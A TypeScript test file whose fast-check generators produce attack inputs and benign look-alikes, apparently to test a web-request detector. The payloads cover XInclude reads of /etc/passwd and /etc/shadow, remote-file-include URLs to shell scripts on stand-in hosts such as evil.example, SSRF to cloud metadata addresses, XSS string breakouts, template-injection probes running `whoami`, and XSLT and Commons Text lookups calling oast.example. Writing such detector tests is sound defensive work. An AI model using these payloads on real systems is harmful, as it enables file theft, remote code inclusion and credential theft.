// Shapes that tools other than the ones the corpus came from send, and that our request model or
// detector gates missed: XInclude with its namespace written without a scheme (`//www.w3.org/2001/XInclude`,
// a default namespace and no `xi:` prefix); remote includes cut by a trailer (`?`, `#`, `?&`) in a
// parameter of any name, and IP, ftp:, smb: and UNC addresses of scripts; scheme-relative internal
// URLs after a path segment or a separator (`/proxy//169.254.169.254/`, `a;u=//[::1]/`); and the
// benign shapes next to each. Each generator draws its parts from a seed (rng.ts).
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";

const label = (r: R) => ["evil", "attacker", "oast", "x" + r(9999), "cdn-" + r(99), "files", "pwn"][r(7)];
const tld = (r: R) => ["example", "example.net", "test", "invalid", "example.org"][r(5)];
const host = (r: R) => `${label(r)}.${tld(r)}`;
const dirs = (r: R) => ["", "x/", "shells/", "a/b/", "tmp/" + r(99) + "/"][r(5)];

// --- XInclude, namespace without a scheme -------------------------------------------------------

const XI_NAMESPACES = ["//www.w3.org/2001/XInclude", "www.w3.org/2001/XInclude", "//WWW.W3.ORG/2001/XInclude", "http://www.w3.org/2001/XInclude"];
const hrefs = (r: R) => ["/etc/passwd", "/etc/hostname", "../../../etc/shadow", "c:/windows/win.ini", "/proc/self/environ", "file.txt"][r(6)];

/** An XInclude document: a default namespace or a random prefix, parse="text" or xml. */
export const xincludeDoc: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const ns = XI_NAMESPACES[r(XI_NAMESPACES.length)];
  const root = ["root", "doc", "data", "r" + r(99)][r(4)];
  const parse = ["", ' parse="text"', " parse='xml'"][r(3)];
  if (r(2)) return `<${root}><include xmlns="${ns}" href="${hrefs(r)}"${parse}/></${root}>`;
  const p = ["xi", "x", "inc", "p" + r(9)][r(4)];
  return `<${root} xmlns:${p}="${ns}"><${p}:include href="${hrefs(r)}"${parse}/></${root}>`;
});

/** Documents with other namespaces, and values with slashes and digits. */
export const xincludeBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  switch (r(5)) {
    case 0: return `xmlns="//www.w3.org/2000/svg" width="${r(500)}"`;
    case 1: return `namespace www.w3.org/1999/xhtml, include ${r(9)} items`;
    case 2: return `reports/2001/${r(12) + 1}/summary`;
    case 3: return `feed //www.w3.org/2005/Atom entry ${r(99)}`;
    default: return `see /2001/${r(99)} and include the notes`;
  }
});

// --- RFI ------------------------------------------------------------------------------------------

const SCRIPT = ["txt", "php", "inc", "phtml", "php5", "TXT", "jsp", "asp"];
const TRAILER = ["?", "??", "#", "?#", "?&", "&?"];

/** A remote script or text file with the trailer that cuts the suffix an include appends. */
export const rfiTrailer: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const scheme = ["http://", "https://", "HTTP://", "hTTps://"][r(4)];
  const port = r(4) === 0 ? `:${[80, 8080, 8000, 443][r(4)]}` : "";
  const file = ["shell", "c99", "r57", "cmd", "test", "x"][r(6)] + "." + SCRIPT[r(SCRIPT.length)];
  return `${scheme}${host(r)}${port}/${dirs(r)}${file}${TRAILER[r(TRAILER.length)]}`;
});

/** A script on an IP-literal host, or over ftp:, smb: or a UNC path. */
export const rfiScriptAddress: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const file = ["shell", "cmd", "x"][r(3)] + "." + ["php", "inc", "phtml", "asp"][r(4)];
  const ip = `${[198, 203, 192][r(3)]}.${r(256)}.${r(256)}.${1 + r(254)}`;
  switch (r(4)) {
    case 0: return `http://${ip}/${dirs(r)}${file}`;
    case 1: return `ftp://${r(2) ? "anonymous:x@" : ""}${host(r)}/${dirs(r)}${file}`;
    case 2: return `smb://${host(r)}/share/${file}`;
    default: return `\\\\${host(r)}\\share\\${file}`;
  }
});

/** URLs as redirects, callbacks and links send them: queries, fragments, anchors, pages. */
export const rfiBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const base = `https://${["www", "shop", "docs", "app"][r(4)]}.example.com`;
  switch (r(7)) {
    case 0: return `${base}/${dirs(r)}page.html#section-${r(9)}`;
    case 1: return `${base}/index.php?id=${r(999)}&lang=en`;
    case 2: return `${base}/${dirs(r)}#/dashboard`;
    case 3: return `${base}/notes.txt`;
    case 4: return `${base}/login?next=/account`;
    case 5: return `\\\\fileserver\\share\\report-${r(99)}.docx`;
    default: return `${base}/download/readme.txt#L${r(99)}`;
  }
});

// --- SSRF, scheme-relative after a segment ---------------------------------------------------------

const INTERNAL = ["169.254.169.254", "[::1]", "0x7f.1", "127.0.0.1", "[::ffff:127.0.0.1]", "localhost", "metadata.google.internal", "0177.0.0.1", "127.1:8080", "[fd00:ec2::254]"];
const SSRF_PATHS = ["/", "/latest/meta-data/", "/computeMetadata/v1/", "/admin", "/server-status", ""];

/** `//internal/...` glued to a path segment or a separator inside a value. */
export const ssrfSchemeRelative: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const target = `//${INTERNAL[r(INTERNAL.length)]}${SSRF_PATHS[r(SSRF_PATHS.length)]}`;
  return [`/fetch${target}`, `/img/${r(99)}${target}`, `a=1;u=${target}`, `next=${target}`, `proxy?to=${target}`, `(${target})`][r(6)];
});

/** Double slashes in paths, scheme-relative public URLs, version numbers and prose. */
export const ssrfSchemeRelativeBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  return [`/a//b/${r(99)}`, `//cdn.example.com/lib-${r(9)}.js`, `see //127.0.0.1:${8000 + r(99)}/ in the docs`, `/api//${r(9)}/items`, `releases//1.${r(9)}/notes`, `img//${r(99)}.png`][r(6)];
});

/** The same payloads in the request path (`/files/...//169.254.169.254/...`). */
export function inPath(payload: string): Req {
  return { method: "GET", path: `/svc${payload.startsWith("/") ? "" : "/"}${payload.replace(/[?#]/g, encodeURIComponent)}`, headers: [["host", "svc.local"]] };
}

// --- XSS, JS-string breakouts with calls that name no `alert(` ---------------------------------------

/** A JS string closed, then a sink called optionally (`alert?.(1)`) or handed to a method as its callback. */
export const jsBreakoutCall: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const q = ["'", "\"", "\\'", "\\\""][r(4)];
  const op = ["-", "+", "*", ";", "||", "&&", "^"][r(7)];
  const sink = ["alert", "confirm", "prompt"][r(3)];
  const call = [`${sink}?.(${r(9)})`, `[${r(9)}].find(${sink})`, `[${r(9)}].map(${sink})`, `${sink}?.\`${r(9)}\``, `[document.domain].forEach(${sink})`][r(5)];
  const end = [`${op}${q}`, "//", ";//", `${op}${q}${q}`][r(4)];
  return `${q}${op}${call}${end}`;
});

/** Prose and code that mention the same names without running them. */
export const jsBreakoutBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  return [`the alert level is ${r(9)}`, `confirm?`, `a ? .${r(9)} : 1`, `prompt engineering (${r(99)} tips)`, `it's ${r(9)}-${r(9)} (confirmed)`][r(5)];
});

// --- SSTI probes that engines other than Jinja answer ---------------------------------------------

/** Template Toolkit `[% a*b %]`, Django filters `{{a|add:b}}`, Ruby `#{`cmd`}`, a method on a literal, and probes
 *  whose random numbers look like percent escapes (`{%42...`), after a closing prefix. */
export const sstiOtherEngines: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const a = 10 + r(990), b = 10 + r(990);
  const body = [`[%${a}*${b}%]`, `[% ${a} * ${b} %]`, `{{${a}|add:${b}}}`, `{{ ${a}|add:"${b}" }}`, `#{\`${["id", "whoami", "uname -a"][r(3)]}\`}`, `{{"x${a}".upper()}}`, `{{'${a}'.concat('${b}')}}`, `{%${a}*${b}%}`][r(8)];
  return ["", "'}}", "\"}}", "%}", "*/", "-->"][r(6)] + body + ["", "{{", "//", "#"][r(4)];
});

/** Brackets, percentages and template placeholders in ordinary values. */
export const sstiOtherBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  return [`[${r(99)}% done]`, `{{ user.name|default:"guest" }}`, `#{order_id}`, `{{ "Hello" }}`, `discount [%] ${r(50)}`, `{% if user %}hi{% endif %}`, `<%= title %>`, `[%${r(9)}]`][r(8)];
});

// --- XSLT injection and Commons Text lookups ------------------------------------------------------

/** An injected stylesheet instruction that reads a file, a URL or the processor's properties. */
export const xsltRead: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const p = ["xsl", "XSL"][r(2)];
  const read = [`system-property('${p}:vendor')`, `document('/etc/passwd')`, `unparsed-text('file:///etc/hostname')`, `php:function('phpinfo')`, `document('http://oast.example/${r(99)}')`][r(5)];
  return [`<${p}:value-of select="${read}"/>`, `<${p}:copy-of select="${read}"/>`, `<${p}:variable name="v${r(9)}" select="${read}"/>`][r(3)];
});

/** Commons Text lookups that reach the network: `${dns:address|host}`, `${url:UTF-8:http://...}`. */
export const textLookup: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  const host = `${["a", "x" + r(999), "probe"][r(3)]}.oast.example`;
  return [`\${dns:address|${host}}`, `\${dns:canonical-name|${host}}`, `\${url:UTF-8:http://${host}/}`, `\${url:utf-8:https://${host}/x}`][r(4)];
});

/** Shell defaults and XSLT without reads. */
export const lookupBenign: fc.Arbitrary<string> = fc.nat().map((seed) => {
  const r = rng(seed);
  return [`\${dns:-none}`, `see the document(${r(9)}) chapter`, `system-property list ${r(9)}`, `\${version:${r(9)}}`][r(4)];
});
